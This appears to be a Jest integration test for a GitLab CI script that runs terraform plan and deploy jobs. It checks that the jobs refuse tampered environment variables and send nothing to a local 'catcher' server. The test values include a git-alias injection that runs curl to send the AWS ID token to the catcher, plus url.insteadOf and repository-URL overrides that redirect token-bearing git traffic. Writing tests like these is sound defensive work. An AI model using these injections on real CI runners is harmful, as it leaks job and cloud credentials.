/**
 * The plan and deploy jobs' script (`sh src/pipeline/sealed-run.sh plan|deploy`) played end to end, as a
 * runner would start it: a checkout whose origin is the project's repository on a git-over-HTTP
 * stand-in of GitLab (127.0.0.1, job token required), the committed component, real terraform on a
 * stack of terraform_data resources with local state, and a catcher that records any request made to
 * it. Hostile variables (issue 18's and more of the same kinds) point at the catcher: the job refuses
 * them or they have no effect, and the catcher never hears from a job.
 */
import { createServer, type Server } from "node:http";
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { GitHttpServer } from "../support/git-http-server";
import { runAsync } from "../support/run";
import { JOB_TOKEN, STACK, jobEnvironment, sealedCheckout } from "../support/sealed-checkout";
import { STEERING } from "../support/sealed-hostile";
import { TERRAFORM, testWithTool } from "../support/tools";

const GIT = ["-c", "user.email=t@example.com", "-c", "user.name=t", "-c", "init.defaultBranch=main"];
const git = (cwd: string, ...args: string[]) =>
  execFileSync("git", [...GIT, ...args], { cwd, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] }).trim();

describe("sealed plan and deploy jobs, played with real terraform", () => {
  let base: string;
  let dir: string;
  let bare: string;
  let state: string;
  let gitlab: GitHttpServer;
  let catcher: Server;
  let catcherUrl: string;
  const caught: string[] = [];
  let head: string;

  beforeAll(async () => {
    // GIVEN the project's repository served on 127.0.0.1 with the job token ("GitLab"), a catcher
    // for everything else, and a checkout of main's head whose origin is that repository
    base = mkdtempSync(join(tmpdir(), "sealed-jobs-"));
    mkdirSync(join(base, "srv", "acme"), { recursive: true });
    gitlab = await GitHttpServer.start(join(base, "srv"), { jobToken: JOB_TOKEN });
    catcher = createServer((req, res) => {
      caught.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
      res.writeHead(502).end();
    });
    await new Promise<void>((resolve) => catcher.listen(0, "127.0.0.1", resolve));
    const address = catcher.address();
    catcherUrl = `http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}`;

    dir = sealedCheckout({ gitlabUrl: gitlab.url });
    state = join(base, "state", `${STACK}.tfstate`);
    writeFileSync(
      join(dir, "terraform/stacks", STACK, "main.tf"),
      `terraform {\n  backend "local" {\n    path = "${state}"\n  }\n}\n\nresource "terraform_data" "role" {\n  input = "v1"\n}\n`,
    );
    writeFileSync(join(dir, "terraform/stacks", STACK, ".terraform.lock.hcl"), "# no providers\n");
    writeFileSync(join(dir, ".gitignore"), ".terraform/\n*.tfplan\nplan.*\n");
    git(dir, "init", "-q");
    git(dir, "add", "-A");
    git(dir, "commit", "-q", "-m", "first");
    head = git(dir, "rev-parse", "HEAD");
    bare = join(base, "srv", "acme", "app.git");
    git(base, "clone", "-q", "--bare", dir, bare);
    // As the runner writes it: the clone URL with the job token.
    git(dir, "remote", "add", "origin", gitlab.repositoryUrl("acme/app", JOB_TOKEN));
  }, 60_000);
  afterAll(async () => {
    await gitlab.close();
    await new Promise((resolve) => catcher.close(resolve));
    rmSync(base, { recursive: true, force: true });
    rmSync(dir, { recursive: true, force: true });
  });
  beforeEach(() => {
    caught.length = 0;
    rmSync(state, { force: true });
    rmSync(join(dir, "terraform/stacks", STACK, "plan.digest"), { force: true });
  });

  function job(step: "plan" | "deploy", extra: Record<string, string> = {}) {
    return runAsync("sh", ["src/pipeline/sealed-run.sh", step], {
      cwd: dir,
      env: { ...jobEnvironment(dir, step, { gitlabUrl: gitlab.url, sha: head }), ...extra },
    });
  }
  const stackFile = (name: string) => join(dir, "terraform/stacks", STACK, name);

  testWithTool(
    TERRAFORM,
    "plan then deploy: require-head from the remote, the fresh plan equals the shown one, applied",
    async () => {
      // WHEN the plan job runs, then the deploy job with harmless lies in the predefined variables
      const plan = await job("plan");
      expect(plan.stderr).not.toMatch(/ERROR/);
      expect(plan.status).toBe(0);
      expect(plan.output).toMatch(/plan for prod .*\{"create":1,"update":0,"delete":0\}/);
      expect(readFileSync(stackFile("plan.digest"), "utf8")).toMatch(/^[0-9a-f]{64}\n$/);
      const deploy = await job("deploy", {
        CI_DEFAULT_BRANCH: "evil",
        CI_COMMIT_BRANCH: "evil",
        CI_REPOSITORY_URL: `${catcherUrl}/acme/app.git`,
      });
      // THEN the deploy read the default branch and its head from the remote, and applied
      expect(deploy.stderr).not.toMatch(/ERROR/);
      expect(deploy.status).toBe(0);
      expect(deploy.output).toContain(
        `require-head: ${head} is the head of main (read from ${gitlab.url}/acme/app.git)`,
      );
      expect(deploy.output).toMatch(/deploy: the plan equals the one plan:prod showed/);
      expect(deploy.output).toContain(
        "reviewed plan: reviewed-plans.txt records no digest for prod: not compared",
      );
      expect(readFileSync(state, "utf8")).toContain('"terraform_data"');
      // AND the job token and ID token went nowhere else
      expect(caught).toEqual([]);
      expect(deploy.output).not.toContain(JOB_TOKEN);
    },
    120_000,
  );

  test.each(STEERING)(
    "plan and deploy with %s: refused, nothing applied, nothing sent",
    async (name, value) => {
      const hostile = value.replace(/127\.0\.0\.1:9|evil\.example/g, catcherUrl.replace("http://", ""));
      for (const step of ["plan", "deploy"] as const) {
        const result = await job(step, { [name]: hostile });
        expect(result.status).toBe(1);
        expect(result.stderr).toMatch(new RegExp(`refusing to run ${step}: .*\\b${name}\\b`));
      }
      expect(existsSync(state)).toBe(false);
      expect(existsSync(stackFile("plan.digest"))).toBe(false);
      expect(caught).toEqual([]);
    },
    60_000,
  );

  test("the issue's git alias attack (AWS_CREDENTIALS_AWS_CLI=git with GIT_CONFIG_*) is refused", async () => {
    const result = await job("deploy", {
      AWS_CREDENTIALS_AWS_CLI: "git",
      GIT_CONFIG_COUNT: "1",
      GIT_CONFIG_KEY_0: "alias.sts",
      GIT_CONFIG_VALUE_0: `!curl -s ${catcherUrl}/$AWS_ID_TOKEN`,
    });
    expect(result.status).toBe(1);
    expect(result.stderr).toMatch(/GIT_CONFIG_COUNT GIT_CONFIG_KEY_0 GIT_CONFIG_VALUE_0/);
    expect(caught).toEqual([]);
  }, 60_000);

  testWithTool(
    TERRAFORM,
    "an older pipeline's deploy is refused after every override of the facts it checks",
    async () => {
      // GIVEN a newer commit on main in the project's repository
      const newer = git(bare, "commit-tree", `${head}^{tree}`, "-p", head, "-m", "newer");
      git(bare, "update-ref", "refs/heads/main", newer);
      try {
        for (const overrides of [
          {},
          { CI_COMMIT_SHA: newer },
          { CI_DEFAULT_BRANCH: "old-branch", CI_COMMIT_BRANCH: "old-branch" },
          { CI_REPOSITORY_URL: `${catcherUrl}/acme/app.git` },
          {
            GIT_CONFIG_COUNT: "1",
            GIT_CONFIG_KEY_0: `url.${catcherUrl}/.insteadOf`,
            GIT_CONFIG_VALUE_0: gitlab.url,
          },
          { CI_SERVER_URL: catcherUrl },
        ] as Record<string, string>[]) {
          // WHEN the old pipeline's deploy is played with the override
          const result = await job("deploy", overrides);
          // THEN it is refused, nothing is applied and nothing reached the catcher
          expect([result.status, result.stderr]).toEqual([1, expect.stringMatching(/ERROR/)]);
          expect(result.output).not.toMatch(/is the head of main/);
          expect(existsSync(state)).toBe(false);
        }
        expect(caught).toEqual([]);
      } finally {
        git(bare, "update-ref", "refs/heads/main", head);
      }
    },
    120_000,
  );

  testWithTool(
    TERRAFORM,
    "a deploy whose fresh plan diverged from the plan job's is refused",
    async () => {
      // GIVEN the plan job's digest, then the state changed (an earlier deploy of the same plan)
      expect((await job("plan")).status).toBe(0);
      const shown = readFileSync(stackFile("plan.digest"), "utf8");
      expect((await job("deploy")).status).toBe(0);
      writeFileSync(stackFile("plan.digest"), shown);
      // WHEN the deploy is played again with the old plan job's digest
      const result = await job("deploy");
      // THEN it reports the divergence and applies nothing
      expect(result.status).toBe(1);
      expect(result.stderr).toMatch(
        /the plan made now \([0-9a-f]{64}\) differs from the one this pipeline's plan:prod showed/,
      );
      expect(result.output).not.toMatch(/Apply complete/);
    },
    120_000,
  );

  testWithTool(
    TERRAFORM,
    "a plan that diverged from the merge request's reviewed digest is reported; under mode fail nothing is applied",
    async () => {
      const reviewed = join(dir, "reviewed-plans.txt");
      try {
        // GIVEN main's plan job, and a reviewed digest for prod that is not this plan's
        expect((await job("plan")).status).toBe(0);
        const digest = readFileSync(stackFile("plan.digest"), "utf8").trim();
        const other = digest.replace(/^./, (c) => (c === "0" ? "1" : "0"));
        // WHEN the deploy runs under mode fail THEN it names the divergence and applies nothing
        writeFileSync(reviewed, `mode fail\n${STACK} ${other}\n`);
        const refused = await job("deploy");
        expect(refused.status).toBe(1);
        expect(refused.stderr).toContain(`the plan (${digest}) DIVERGED from the one recorded as reviewed`);
        expect(existsSync(state)).toBe(false);
        // AND under mode warn it reports the divergence and deploys
        writeFileSync(reviewed, `${STACK} ${other}\n`);
        const warned = await job("deploy");
        expect(warned.status).toBe(0);
        expect(warned.output).toContain("WARNING: reviewed plan:");
        expect(readFileSync(state, "utf8")).toContain('"terraform_data"');
      } finally {
        rmSync(reviewed, { force: true });
      }
    },
    120_000,
  );

  testWithTool(
    TERRAFORM,
    "a deploy without the plan job's artifact applies nothing",
    async () => {
      const result = await job("deploy");
      expect(result.status).toBe(1);
      expect(result.stderr).toMatch(/plan\.digest, the artifact of this pipeline's plan job, is missing/);
      expect(existsSync(state)).toBe(false);
    },
    60_000,
  );
});
